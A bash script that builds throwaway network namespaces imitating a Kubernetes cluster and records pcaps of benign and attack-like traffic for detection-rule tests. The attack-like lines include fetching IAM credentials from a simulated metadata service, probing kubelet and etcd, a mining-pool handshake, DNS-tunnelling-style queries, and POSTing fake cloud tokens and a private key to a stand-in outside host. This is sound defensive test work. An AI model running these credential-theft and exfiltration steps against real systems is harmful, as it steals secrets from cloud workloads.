#!/usr/bin/env bash
# Record real traffic for the rule-engine acceptance tests (issue 4) in network namespaces.
#
#   sudo bash samples/netns/record.sh            # writes k8s-real.pcap and k8s-vxlan.pcap here
#
# Needs root, iproute2, tcpdump, mergecap (wireshark-common), python3, curl, dig, socat, dnsmasq,
# openssl. Traffic goes only to addresses of the namespaces this script creates. Every namespace,
# veth and /etc/netns/<ns> directory is removed on exit (trap), and stale ones are removed first, so
# the script can be run again at any time. See README.md beside it for the topology and scenarios.
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
OUT_REAL="${OUT_REAL:-$HERE/k8s-real.pcap}"
OUT_VXLAN="${OUT_VXLAN:-$HERE/k8s-vxlan.pcap}"
BULK_MB="${BULK_MB:-20}"
NSS=(kw-pod kw-pod2 kw-node kw-ext kw-rtr kw-vxa kw-vxb)
WORK="$(mktemp -d /tmp/kw-netns.XXXXXX)"
PIDS=()

log() { printf '[record] %s\n' "$*" >&2; }

cleanup() {
  set +e
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null; done
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null; done
  for ns in "${NSS[@]}"; do
    ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null
    ip netns del "$ns" 2>/dev/null
    rm -rf "/etc/netns/$ns"
  done
  rmdir /etc/netns 2>/dev/null   # only if empty (we may have created it)
  rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

[ "$(id -u)" = 0 ] || { echo "record.sh: needs root (network namespaces)" >&2; exit 2; }
for t in ip tcpdump mergecap python3 curl dig socat dnsmasq openssl ss; do
  command -v "$t" >/dev/null || { echo "record.sh: missing tool: $t" >&2; exit 2; }
done

# start from a clean slate (idempotent)
for ns in "${NSS[@]}"; do ip netns del "$ns" 2>/dev/null || true; rm -rf "/etc/netns/$ns"; done

nx() { local ns=$1; shift; ip netns exec "$ns" "$@"; }
bg() { local ns=$1; shift; ip netns exec "$ns" "$@" >>"$WORK/bg.log" 2>&1 & PIDS+=($!); }
wait_port() { # ns proto port  -- bounded wait for a listener
  local i; for i in $(seq 1 200); do   # at most ~20 s (python start-up can be slow)
    if [ -n "${4:-}" ]; then nx "$1" ss -Hln"${2:0:1}" | awk '{print $4}' | grep -qxF "$4" && return 0
    else nx "$1" ss -Hln"${2:0:1}" "sport = :$3" | grep -q . && return 0; fi; sleep 0.1; done
  echo "record.sh: nothing listening on $2/$3 in $1" >&2; return 1
}
sysctls() { nx "$1" sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 \
  net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0 \
  net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0 >/dev/null; }

# ---------------------------------------------------------------- topology
#   kw-pod  eth0 10.244.1.10/24  fd00:10:244:1::10/64 ---+
#   kw-pod2 eth0 10.244.2.10/24                         ---+-- kw-rtr (router, forwards everything)
#   kw-node eth0 192.168.49.2/24 fd00:192:168:49::2/64  ---+      169.254.169.254, fd00:ec2::254 on
#   kw-ext  eth0 203.0.113.10/24, 203.0.113.53 (dnsmasq) --+      kw-node's "imds0" (veth)
log "building namespaces"
for ns in kw-rtr kw-pod kw-pod2 kw-node kw-ext; do
  ip netns add "$ns"; sysctls "$ns"; nx "$ns" ip link set lo up
done
link() { # ns rtr-side-name mac-suffix
  ip link add "$2" netns kw-rtr address "02:00:00:00:01:$3" type veth \
    peer name eth0 netns "$1" address "02:00:00:00:02:$3"
  nx kw-rtr ip link set "$2" up; nx "$1" ip link set eth0 up
}
link kw-pod  vpod  10
link kw-pod2 vpod2 11
link kw-node vnode 02
link kw-ext  vext  03
nx kw-rtr ip addr add 10.244.1.1/24 dev vpod
nx kw-rtr ip addr add fd00:10:244:1::1/64 dev vpod nodad
nx kw-rtr ip addr add 10.244.2.1/24 dev vpod2
nx kw-rtr ip addr add 192.168.49.1/24 dev vnode
nx kw-rtr ip addr add fd00:192:168:49::1/64 dev vnode nodad
nx kw-rtr ip addr add 203.0.113.1/24 dev vext
nx kw-rtr ip route add 169.254.169.254/32 via 192.168.49.2
nx kw-rtr ip route add fd00:ec2::254/128 via fd00:192:168:49::2

nx kw-pod ip addr add 10.244.1.10/24 dev eth0
nx kw-pod ip addr add fd00:10:244:1::10/64 dev eth0 nodad
nx kw-pod ip route add default via 10.244.1.1
nx kw-pod ip -6 route add default via fd00:10:244:1::1
nx kw-pod2 ip addr add 10.244.2.10/24 dev eth0
nx kw-pod2 ip route add default via 10.244.2.1
nx kw-node ip addr add 192.168.49.2/24 dev eth0
nx kw-node ip addr add fd00:192:168:49::2/64 dev eth0 nodad
nx kw-node ip route add default via 192.168.49.1
nx kw-node ip -6 route add default via fd00:192:168:49::1
# no "dummy" link type in this kernel: a veth pair stands in (imds0 holds the addresses)
nx kw-node ip link add imds0 type veth peer name imds0-peer
nx kw-node ip link set imds0-peer up; nx kw-node ip link set imds0 up
nx kw-node ip addr add 169.254.169.254/32 dev imds0
nx kw-node ip addr add fd00:ec2::254/128 dev imds0 nodad
nx kw-ext ip addr add 203.0.113.10/24 dev eth0
nx kw-ext ip addr add 203.0.113.53/24 dev eth0
nx kw-ext ip route add default via 203.0.113.1

# the pod resolves through the "outside" dnsmasq (ip netns exec bind-mounts /etc/netns/NS/*)
mkdir -p /etc/netns/kw-pod
printf 'nameserver 203.0.113.53\noptions timeout:1 attempts:1\n' >/etc/netns/kw-pod/resolv.conf
printf '127.0.0.1 localhost\n' >/etc/netns/kw-pod/hosts

# ---------------------------------------------------------------- fake secrets (deterministic)
python3 - "$WORK" <<'EOF'
import base64, hashlib, sys, textwrap
w = sys.argv[1]
def stream(seed, n):
    out, i = b"", 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}-{i}".encode()).digest(); i += 1
    return out[:n]
b32 = lambda seed, n: base64.b32encode(stream(seed, 64)).decode()[:n]
alnum = lambda seed, n: "".join("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"[b % 62]
                                for b in stream(seed, n))
open(f"{w}/imds_akia", "w").write("AKIA" + b32("kwire-imds-akia", 16))
pem = "\n".join(textwrap.wrap(base64.b64encode(stream("kwire-fake-rsa", 600)).decode(), 64))
body = (
    "aws_access_key_id=AKIA" + b32("kwire-leak-akia", 16) + "\n"
    "aws_secret_access_key=" + alnum("kwire-leak-aws-secret", 40) + "\n"
    "github_token=ghp_" + alnum("kwire-leak-ghp", 36) + "\n"
    "slack_token=xoxb-" + "".join(str(b % 10) for b in stream("kwire-slack-a", 12)) + "-"
    + "".join(str(b % 10) for b in stream("kwire-slack-b", 13)) + "-" + alnum("kwire-leak-xoxb", 24) + "\n"
    "-----BEGIN RSA PRIVATE KEY-----\n" + pem + "\n-----END RSA PRIVATE KEY-----\n"
)
open(f"{w}/secrets.txt", "w").write(body)
# DNS-tunnelling-like names: 52-char base32 labels under one registered domain
with open(f"{w}/tunnel_names", "w") as f:
    for i in range(50):
        lab = base64.b32encode(hashlib.sha256(f"kwire-dns-tunnel-{i}".encode()).digest()).decode()
        f.write(lab.rstrip("=").lower()[:52] + ".t.exfil-test.example\n")
EOF

# self-signed certificate for the "outside" TLS server (SANs for every name used)
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=kwire-sample-ext" \
  -addext "subjectAltName=DNS:pastebin.com,DNS:api.github.com,DNS:transfer.sh" \
  -keyout "$WORK/ext.key" -out "$WORK/ext.crt" 2>/dev/null
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=kube-apiserver" \
  -addext "subjectAltName=IP:192.168.49.2,DNS:kubernetes.default.svc" \
  -keyout "$WORK/api.key" -out "$WORK/api.crt" 2>/dev/null

# ---------------------------------------------------------------- servers
log "starting servers"
export KW_IMDS_AKIA; KW_IMDS_AKIA="$(cat "$WORK/imds_akia")"
FS="$HERE/fake_server.py"
bg kw-node python3 "$FS" imds 169.254.169.254 80
bg kw-node python3 "$FS" imds fd00:ec2::254 80
bg kw-node python3 "$FS" web 0.0.0.0 30080                       # NodePort
bg kw-node openssl s_server -quiet -www -accept 6443 -cert "$WORK/api.crt" -key "$WORK/api.key"
# canned replies in files: socat's address parser would eat the escapes of an inline printf
printf 'HTTP/1.1 401 Unauthorized\r\nContent-Length: 13\r\nConnection: close\r\n\r\nUnauthorized\n' >"$WORK/kubelet.resp"
printf 'etcd-fake\n' >"$WORK/etcd.resp"
printf '{"id":1,"result":true,"error":null}\n' >"$WORK/pool.resp"
bg kw-node socat -T2 TCP-LISTEN:10250,reuseaddr,fork SYSTEM:"cat $WORK/kubelet.resp"
bg kw-node socat -T2 TCP-LISTEN:2379,reuseaddr,fork SYSTEM:"cat $WORK/etcd.resp"
bg kw-pod2 python3 "$FS" web 10.244.2.10 8080
bg kw-ext python3 "$FS" web 203.0.113.10 8080
bg kw-ext openssl s_server -quiet -www -accept 443 -cert "$WORK/ext.crt" -key "$WORK/ext.key"
bg kw-ext socat -T5 TCP-LISTEN:9000,bind=203.0.113.10,reuseaddr,fork OPEN:/dev/null
bg kw-ext socat -T2 TCP-LISTEN:3333,bind=203.0.113.10,reuseaddr,fork SYSTEM:"cat $WORK/pool.resp"
bg kw-ext dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
  --user=root --pid-file= --listen-address=203.0.113.53 --bind-interfaces --port=53 \
  --no-negcache --cache-size=0 \
  --address=/metadata.google.internal/169.254.169.254 \
  --address=/exfil-test.example/203.0.113.10 \
  --host-record=kubernetes.default.svc.cluster.local,10.96.0.1 \
  --host-record=web.default.svc.cluster.local,10.244.2.10 \
  --host-record=coredns.kube-system.svc.cluster.local,10.96.0.10 \
  --host-record=api.github.com,203.0.113.10 \
  --host-record=registry.k8s.io,203.0.113.10
wait_port kw-node tcp 80 169.254.169.254:80
wait_port kw-node tcp 80 '[fd00:ec2::254]:80'; wait_port kw-node tcp 30080; wait_port kw-node tcp 6443
wait_port kw-node tcp 10250; wait_port kw-node tcp 2379; wait_port kw-pod2 tcp 8080
wait_port kw-ext tcp 8080; wait_port kw-ext tcp 443; wait_port kw-ext tcp 9000
wait_port kw-ext tcp 3333; wait_port kw-ext udp 53
# neighbour warm-up outside the capture (no ping here: a TCP connect from the pod is enough)
nx kw-pod curl -s -m 2 -o /dev/null -g 'http://[fd00:ec2::254]/' || true
nx kw-pod curl -s -m 2 -o /dev/null http://203.0.113.10:8080/ || true
nx kw-ext curl -s -m 2 -o /dev/null http://192.168.49.2:30080/ || true

# ---------------------------------------------------------------- captures
# 1) pod veth, full packets, everything except the bulk upload (tcp/9000)
# 2) pod veth, bulk upload only, snap 96 bytes (headers only; original lengths kept)
# 3) outside host's veth, flows that do not involve the pod (outside -> node control plane, NodePort)
log "starting captures"
TD=(tcpdump -Z root -U -n -s 0)
bg kw-pod "${TD[@]}" -i eth0 -w "$WORK/pod.pcap" 'not tcp port 9000'
bg kw-pod tcpdump -Z root -U -n -s 96 -i eth0 -w "$WORK/bulk.pcap" 'tcp port 9000'
bg kw-ext "${TD[@]}" -i eth0 -w "$WORK/ext.pcap" 'not net 10.244.0.0/16'
CAP_PIDS=("${PIDS[@]: -3}")
sleep 1.5

C=(curl -sS -m 5 -o /dev/null)
step() { log "scenario: $1"; sleep 0.2; }

step "benign: pod -> pod HTTP, cluster DNS, allowed TLS"
nx kw-pod dig +tries=1 +time=1 @203.0.113.53 web.default.svc.cluster.local A >/dev/null
nx kw-pod dig +tries=1 +time=1 @203.0.113.53 kubernetes.default.svc.cluster.local A >/dev/null
nx kw-pod dig +tries=1 +time=1 @203.0.113.53 registry.k8s.io A >/dev/null
nx kw-pod "${C[@]}" http://web.default.svc.cluster.local:8080/healthz
nx kw-pod "${C[@]}" -k --resolve api.github.com:443:203.0.113.10 https://api.github.com/zen

step "metadata API (AWS IMDS v1, v2, IPv6; GCE)"
nx kw-pod "${C[@]}" http://169.254.169.254/latest/meta-data/
TOKEN="$(nx kw-pod curl -sS -m 5 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' \
  http://169.254.169.254/latest/api/token)"
nx kw-pod "${C[@]}" -H "X-aws-ec2-metadata-token: $TOKEN" \
  http://169.254.169.254/latest/meta-data/iam/security-credentials/
nx kw-pod "${C[@]}" -H "X-aws-ec2-metadata-token: $TOKEN" \
  http://169.254.169.254/latest/meta-data/iam/security-credentials/role
nx kw-pod "${C[@]}" -g 'http://[fd00:ec2::254]/'
nx kw-pod dig +tries=1 +time=1 @203.0.113.53 metadata.google.internal A >/dev/null
nx kw-pod "${C[@]}" -4 -H 'Metadata-Flavor: Google' \
  http://metadata.google.internal/computeMetadata/v1/instance/

step "control plane from the pod"
nx kw-pod "${C[@]}" -k https://192.168.49.2:6443/version
nx kw-pod "${C[@]}" http://192.168.49.2:10250/pods
printf 'GET /version HTTP/1.0\r\n\r\n' | nx kw-pod socat -T2 - TCP:192.168.49.2:2379 >/dev/null

step "control plane and NodePort from outside"
nx kw-ext "${C[@]}" -k https://192.168.49.2:6443/api/v1/secrets
nx kw-ext "${C[@]}" http://192.168.49.2:10250/runningpods/
printf 'GET /v2/keys HTTP/1.0\r\n\r\n' | nx kw-ext socat -T2 - TCP:192.168.49.2:2379 >/dev/null
nx kw-ext "${C[@]}" http://192.168.49.2:30080/

step "TLS to paste / file-drop sites (SNI)"
nx kw-pod "${C[@]}" -k --resolve pastebin.com:443:203.0.113.10 https://pastebin.com/
nx kw-pod timeout 5 openssl s_client -connect 203.0.113.10:443 -servername transfer.sh \
  </dev/null >/dev/null 2>&1 || true

step "egress to a disallowed port (stratum-like 3333)"
printf '{"id":1,"method":"mining.subscribe","params":[]}\n' | \
  nx kw-pod socat -T2 - TCP:203.0.113.10:3333 >/dev/null

step "cleartext secrets in an HTTP POST"
nx kw-pod "${C[@]}" -H 'Content-Type: text/plain' --data-binary @"$WORK/secrets.txt" \
  http://203.0.113.10:8080/upload/secrets

step "DNS tunnelling-like burst (50 queries)"
while read -r name; do
  nx kw-pod dig +tries=1 +time=1 @203.0.113.53 "$name" TXT >/dev/null
done <"$WORK/tunnel_names"

step "bulk upload ${BULK_MB} MB to outside"
head -c "$((BULK_MB * 1024 * 1024))" /dev/zero | nx kw-pod socat -u - TCP:203.0.113.10:9000

step "benign tail: pod -> pod HTTP again"
nx kw-pod "${C[@]}" http://10.244.2.10:8080/index.html

sleep 1
for p in "${CAP_PIDS[@]}"; do kill -INT "$p"; done
for p in "${CAP_PIDS[@]}"; do wait "$p" 2>/dev/null || true; done
mergecap -F pcap -w "$OUT_REAL" "$WORK/pod.pcap" "$WORK/bulk.pcap" "$WORK/ext.pcap"
log "wrote $OUT_REAL ($(stat -c %s "$OUT_REAL") bytes)"

# ---------------------------------------------------------------- VXLAN (two nodes, VNI 1, port 8472)
# kw-vxa 192.168.50.1 <-veth-> kw-vxb 192.168.50.2; flannel-like vxlan "flannel.1" with
# overlay 10.244.10.1/16 and 10.244.20.1/16. Captured on kw-vxa's underlay eth0.
log "VXLAN topology"
ip netns add kw-vxa; ip netns add kw-vxb
for ns in kw-vxa kw-vxb; do sysctls "$ns"; nx "$ns" ip link set lo up; done
ip link add eth0 netns kw-vxa address 02:00:00:00:03:01 type veth \
  peer name eth0 netns kw-vxb address 02:00:00:00:03:02
nx kw-vxa ip addr add 192.168.50.1/24 dev eth0; nx kw-vxa ip link set eth0 up
nx kw-vxb ip addr add 192.168.50.2/24 dev eth0; nx kw-vxb ip link set eth0 up
if nx kw-vxa ip link add flannel.1 address 02:00:00:00:04:01 type vxlan id 1 dstport 8472 \
     local 192.168.50.1 remote 192.168.50.2 dev eth0 2>"$WORK/vxlan.err" &&
   nx kw-vxb ip link add flannel.1 address 02:00:00:00:04:02 type vxlan id 1 dstport 8472 \
     local 192.168.50.2 remote 192.168.50.1 dev eth0 2>>"$WORK/vxlan.err"; then
  nx kw-vxa ip addr add 10.244.10.1/16 dev flannel.1; nx kw-vxa ip link set flannel.1 up
  nx kw-vxb ip addr add 10.244.20.1/16 dev flannel.1; nx kw-vxb ip link set flannel.1 up
  bg kw-vxb python3 "$FS" web 10.244.20.1 8080
  bg kw-vxb python3 "$FS" imds 10.244.20.1 80
  bg kw-vxb socat -T2 TCP-LISTEN:10250,reuseaddr,fork SYSTEM:"cat $WORK/kubelet.resp"
  wait_port kw-vxb tcp 8080; wait_port kw-vxb tcp 80; wait_port kw-vxb tcp 10250
  nx kw-vxa curl -s -m 2 -o /dev/null http://10.244.20.1:8080/ || true   # ARP/FDB warm-up, outside capture
  bg kw-vxa "${TD[@]}" -i eth0 -w "$WORK/vxlan.pcap" 'udp port 8472'
  VX_PID=$!; sleep 1.5
  step "vxlan: benign pod -> pod HTTP"
  nx kw-vxa "${C[@]}" http://10.244.20.1:8080/healthz
  step "vxlan: kubelet 10250 across the overlay"
  nx kw-vxa "${C[@]}" http://10.244.20.1:10250/pods
  step "vxlan: secrets POST across the overlay"
  nx kw-vxa "${C[@]}" -H 'Content-Type: text/plain' --data-binary @"$WORK/secrets.txt" \
    http://10.244.20.1:8080/upload/secrets
  sleep 1; kill -INT "$VX_PID"; wait "$VX_PID" 2>/dev/null || true
  mergecap -F pcap -w "$OUT_VXLAN" "$WORK/vxlan.pcap"
  log "wrote $OUT_VXLAN ($(stat -c %s "$OUT_VXLAN") bytes)"
else
  log "VXLAN not available here: $(cat "$WORK/vxlan.err")"
fi
log "done"
